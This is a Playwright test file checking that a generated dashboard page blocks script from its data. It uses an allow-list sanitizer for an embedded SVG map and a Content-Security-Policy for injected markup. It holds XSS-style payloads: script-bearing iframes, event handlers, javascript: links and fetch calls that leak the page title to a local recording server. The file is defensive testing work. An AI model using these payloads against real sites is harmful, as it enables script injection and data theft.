"""Script from the data does not run in the board, as Chromium shows it (issue 22, finding 1).

The board is served by a web server on 127.0.0.1 that records every other request it gets:
a page that leaked anything (its title, a form, a frame, a navigation) would reach it. Two ways
in are tried: a hostile district map drawn in through the board's own embedding with validate
skipped (the allow-list drops it: it is not in the page at all), and script and requests
slipped into the board's HTML itself (the Content-Security-Policy blocks them). In both the
board's own script still runs: the filters work.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page

from conftest import copy_sample
from documents.test_board import run
from realapps import chromium_browser, page_of
from xjj_cli.board.build import build_board
from xjj_cli.pipeline import evaluate
from xjj_cli.render.board import render_board

pytestmark = pytest.mark.needs("chromium")

BOARD = "/board.html"


class Site(ThreadingHTTPServer):
    """Serves ``page`` at /board.html; every other request is recorded (and answered)."""

    page = b""
    requests: list[str]

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Handler(BaseHTTPRequestHandler):
    server: Site

    def _answer(self) -> None:
        if self.path == BOARD:
            body = self.server.page
        else:
            self.server.requests.append(f"{self.command} {self.path}")
            body = b"<!doctype html><title>away</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = _answer
    do_POST = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    server = Site(("127.0.0.1", 0), Handler)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with chromium_browser() as browser:
        yield browser


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_sample(tmp_path_factory.mktemp("csp-browser"))


def hostile_map(base: str) -> str:
    """A map with every way out the finding named, each reaching for ``base``."""
    leak = "encodeURIComponent(parent.document.title)"
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  viewBox="0 0 100 100">
  <polygon data-town="gh" points="0,0 50,0 50,50"/>
  <p/><iframe srcdoc="&lt;script&gt;parent.pwned='srcdoc';new Image().src='{base}/srcdoc?'+{leak}&lt;/script&gt;"></iframe>
  <g><title><iframe srcdoc="&lt;script&gt;parent.pwned='title';fetch('{base}/title?'+{leak})&lt;/script&gt;"></iframe></title></g>
  <meta http-equiv="refresh" content="0;url={base}/refresh"/>
  <g><title><form action="{base}/form" id="evil-form"><input name="t" value="x"/></form></title></g>
  <svg onload="window.pwned='onload'"/>
  <a href="javascript:void(window.pwned='href')"><rect id="evil-link" width="40" height="40"/></a>
  <image href="{base}/image" width="10" height="10"/>
  <rect width="10" height="10" style="fill:url({base}/paint)"/>
  <script>window.pwned='script'</script>
</svg>"""


SLIPPED_IN = """<script>window.pwned='inline';fetch('{base}/fetch').catch(function () {{}})</script>
<script src="{base}/script.js"></script>
<img src="x" onerror="window.pwned='handler'">
<img src="{base}/img">
<iframe src="{base}/frame"></iframe>
<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>
<link rel="stylesheet" href="{base}/css">
<style>body {{ background: url({base}/background) }}</style>
<div style="background-image: url({base}/style-attribute)">x</div>
<object data="{base}/object"></object>
<form id="evil-form" action="{base}/form" method="post"><input name="t" value="x"></form>
<a id="evil-link" href="javascript:void(window.pwned='link')">x</a>
"""
"""Markup slipped into the board's HTML before ``</body>``, as if an escape had failed."""


@contextmanager
def open_board(chromium: Browser, site: Site, page_html: str) -> Iterator[tuple[Page, list[str]]]:
    site.page = page_html.encode("utf-8")
    site.requests.clear()
    with page_of(chromium, 1400, 900) as page:
        console: list[str] = []

        def note(message: ConsoleMessage) -> None:
            console.append(message.text)

        page.on("console", note)
        page.goto(site.base + BOARD)
        page.wait_for_load_state("load")
        page.wait_for_timeout(1000)  # a refresh, a frame or a fetch would have happened by now
        yield page, console


TITLE = "任城区新基建挂图作战图（2026年10月）"
"""The sample board's title: a script from the data would change it, or leave the page."""


def assert_nothing_from_the_data_ran(page: Page, site: Site) -> None:
    assert page.url == site.base + BOARD
    assert page.evaluate("document.title") == TITLE
    assert page.evaluate("String(window.pwned)") == "undefined"
    assert site.requests == []


def assert_the_boards_own_script_works(page: Page) -> None:
    assert page.evaluate("document.documentElement.classList.contains('js')")
    assert page.locator("form.filters").is_visible()
    cards = page.locator(".card").count()
    assert page.locator("#shown-count").inner_text() == f"显示 {cards} / {cards} 个"
    page.select_option('select[data-filter="color"]', "red")
    shown = page.locator(".card:visible").count()
    assert 0 < shown < cards
    assert page.locator("#shown-count").inner_text() == f"显示 {shown} / {cards} 个"


def test_a_hostile_map_drawn_in_without_validate_runs_nothing_and_sends_nothing(
    chromium: Browser, site: Site, sample: Path
) -> None:
    board = build_board(evaluate(sample, "2026-10"))
    html = render_board(board, [], None, hostile_map(site.base).encode("utf-8"))
    with open_board(chromium, site, html) as (page, _):
        assert_nothing_from_the_data_ran(page, site)
        hostile = "iframe, form[action], meta[http-equiv=refresh], image, a[href^=javascript]"
        assert page.locator(hostile).count() == 0
        drawn = page.locator(".district-map svg polygon[data-town=gh]")
        assert drawn.count() == len(board.metrics)
        assert_the_boards_own_script_works(page)
        page.evaluate(
            "document.querySelector('[id$=evil-link]')?.dispatchEvent(new MouseEvent('click'))"
        )
        page.evaluate("document.getElementById('evil-form')?.requestSubmit()")
        page.wait_for_timeout(300)
        assert_nothing_from_the_data_ran(page, site)


def test_script_and_requests_slipped_into_the_board_are_blocked_by_its_policy(
    chromium: Browser, site: Site, sample: Path, tmp_path: Path
) -> None:
    out = tmp_path / "board.html"
    code, _, err = run(sample, "--month", "2026-10", "--out", str(out))
    assert code == 0, err
    html = out.read_text(encoding="utf-8")
    html = html.replace("</body>", SLIPPED_IN.format(base=site.base) + "</body>")
    with open_board(chromium, site, html) as (page, console):
        assert_nothing_from_the_data_ran(page, site)
        assert page.locator("#evil-form").count() == 1  # the markup is there: the policy stops it
        assert any("Content Security Policy" in text for text in console), console
        assert_the_boards_own_script_works(page)
        # last: Playwright would wait for the blocked submission's navigation in later actions
        page.evaluate("document.getElementById('evil-link').click()")
        page.evaluate("document.getElementById('evil-form').requestSubmit()")
        page.wait_for_timeout(300)
        assert_nothing_from_the_data_ran(page, site)
